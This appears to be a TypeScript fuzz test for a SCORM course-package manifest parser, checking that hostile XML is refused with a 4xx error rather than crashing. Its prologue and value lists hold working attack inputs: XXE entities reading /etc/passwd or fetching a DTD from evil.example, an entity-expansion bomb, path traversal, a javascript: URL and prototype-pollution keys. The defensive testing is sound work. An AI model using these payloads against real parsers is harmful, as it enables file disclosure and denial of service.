import { describe, expect, it } from "vitest";
import fc from "fast-check";
import { parseManifest, ScormPackageError } from "../../api/scorm/manifest";
import { launchFile, scormScos } from "../../domain/scorm";
import { FUZZ_SEED } from "../fixtures/bad-requests";

/**
 * Issue 29 item 4: imsmanifest.xml from a hostile package. Generated manifests — the elements and
 * attributes the import reads, nested and repeated at random, with hostile values (entities, escapes
 * that do not decode, prototype names, control characters, deep nesting), document types, CDATA,
 * comments and garbage — are either read or refused with the import's own error (a 4xx), never
 * anything else (a 500). What the import does with a manifest it read (the SCOs, their launch files)
 * must not throw either. Seeded like the request fuzzers (FUZZ_SEED).
 */

const ELEMENTS = [
  "manifest",
  "metadata",
  "schema",
  "schemaversion",
  "organizations",
  "organization",
  "item",
  "title",
  "resources",
  "resource",
  "file",
  "dependency",
  "adlcp:masteryscore",
  "adlcp:maxtimeallowed",
  "adlcp:timelimitaction",
  "adlcp:datafromlms",
  "imsss:sequencing",
  "imsss:objectives",
  "imsss:primaryObjective",
  "imsss:minNormalizedMeasure",
  "imsss:limitConditions",
  "imsss:controlMode",
  "__proto__",
  "constructor",
];
const ATTRIBUTES = [
  "identifier",
  "identifierref",
  "href",
  "default",
  "base",
  "xml:base",
  "parameters",
  "isvisible",
  "adlcp:scormtype",
  "satisfiedByMeasure",
  "attemptAbsoluteDurationLimit",
  "choice",
  "flow",
  "__proto__",
  "toString",
];
const HOSTILE = [
  "",
  "a.html",
  "index.html?x=1#y",
  "%",
  "%E0%A4%A",
  "a%.html",
  "../../etc/passwd",
  "/abs.html",
  "C:\\x.html",
  "http://evil.example/x",
  "javascript:alert(1)",
  "__proto__",
  "constructor",
  "r1",
  "o1",
  "true",
  "false",
  "PT1H30M",
  "9999:99:99",
  "NaN",
  "1e309",
  "-1",
  "&amp;",
  "&lt;script&gt;",
  "&#0;",
  "&#xD800;",
  "&xxe;",
  "\u0000",
  "\u202e",
  "x".repeat(300),
];

const text = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ maxLength: 20 }),
  fc.string({ unit: "binary", maxLength: 10 }),
);
const escapeAttr = (v: string) => v.replace(/"/g, "&quot;").replace(/</g, "&lt;");
const attributes = fc
  .array(fc.tuple(fc.constantFrom(...ATTRIBUTES), text), { maxLength: 4 })
  .map((pairs) => pairs.map(([name, value]) => ` ${name}="${escapeAttr(value)}"`).join(""));

/** An element tree, `depth` levels at most. */
const element: (depth: number) => fc.Arbitrary<string> = (depth) =>
  fc
    .tuple(
      fc.constantFrom(...ELEMENTS),
      attributes,
      depth <= 0
        ? text.map((t) => t.replace(/[<&]/g, ""))
        : fc.oneof(
            {
              weight: 3,
              arbitrary: fc.array(element(depth - 1), { maxLength: 4 }).map((children) => children.join("")),
            },
            text.map((t) => t.replace(/[<&]/g, "")),
            fc.constantFrom("<![CDATA[<item>]]>", "<!-- c -->", "<?pi x?>", "&amp;", "&xxe;", "&#38;"),
          ),
      fc.boolean(),
    )
    .map(([name, attrs, inner, selfClosing]) =>
      selfClosing ? `<${name}${attrs}/>` : `<${name}${attrs}>${inner}</${name}>`,
    );

const PROLOGUES = [
  "",
  '<?xml version="1.0" encoding="UTF-8"?>',
  '<?xml version="1.0"?><!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
  '<!DOCTYPE m [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
  "<!doctype manifest>",
  "\uFEFF",
];

/** A manifest-shaped document: the usual skeleton with generated parts, or anything at all. */
const manifest = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .tuple(fc.constantFrom(...PROLOGUES), attributes, element(4), element(4), element(3))
      .map(
        ([prologue, attrs, organizations, resources, extra]) =>
          `${prologue}<manifest${attrs}><organizations default="o1"><organization identifier="o1">${organizations}</organization></organizations><resources>${resources}</resources>${extra}</manifest>`,
      ),
  },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom(...PROLOGUES), element(5)).map(([p, e]) => p + e) },
  { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
  // A nesting bomb: items inside items, far deeper than any course.
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 30, max: 5000 })
      .map(
        (n) =>
          `<manifest><organizations><organization>${'<item identifierref="r">'.repeat(n)}${"</item>".repeat(n)}</organization></organizations><resources><resource identifier="r" href="a.html"/></resources></manifest>`,
      ),
  },
);

describe("imsmanifest.xml from a hostile package is read or refused with the import's error (issue 29)", () => {
  it.each([
    ["an external entity", PROLOGUES[2]],
    ["a parameter entity", PROLOGUES[3]],
    ["an entity expansion", PROLOGUES[4]],
  ])("%s: the import's 422, not a 500", (_name, prologue) => {
    const xml = `${prologue}<manifest><organizations><organization><item identifierref="r"><title>&xxe;</title></item></organization></organizations><resources><resource identifier="r" href="a.html"/></resources></manifest>`;
    let error: unknown = null;
    try {
      parseManifest(xml);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(ScormPackageError);
    expect((error as ScormPackageError).status).toBe(422);
  });

  it("refuses a launch path that does not decode (the import would have thrown a URIError)", () => {
    const xml = `<manifest><organizations><organization><item identifierref="r"/></organization></organizations><resources><resource identifier="r" href="a%E0%A4%A.html"/></resources></manifest>`;
    expect(() => parseManifest(xml)).toThrow(ScormPackageError);
  });

  it(`3,000 generated manifests (seed ${FUZZ_SEED})`, () => {
    fc.assert(
      fc.property(manifest, (xml) => {
        let read;
        try {
          read = parseManifest(xml);
        } catch (error) {
          if (!(error instanceof ScormPackageError)) throw error;
          expect(error.status).toBeGreaterThanOrEqual(400);
          expect(error.status).toBeLessThan(500);
          return;
        }
        // What the import does next with what it read.
        for (const sco of scormScos(read.items)) launchFile(sco.launch!);
      }),
      { seed: FUZZ_SEED, numRuns: 3000 },
    );
  });
});
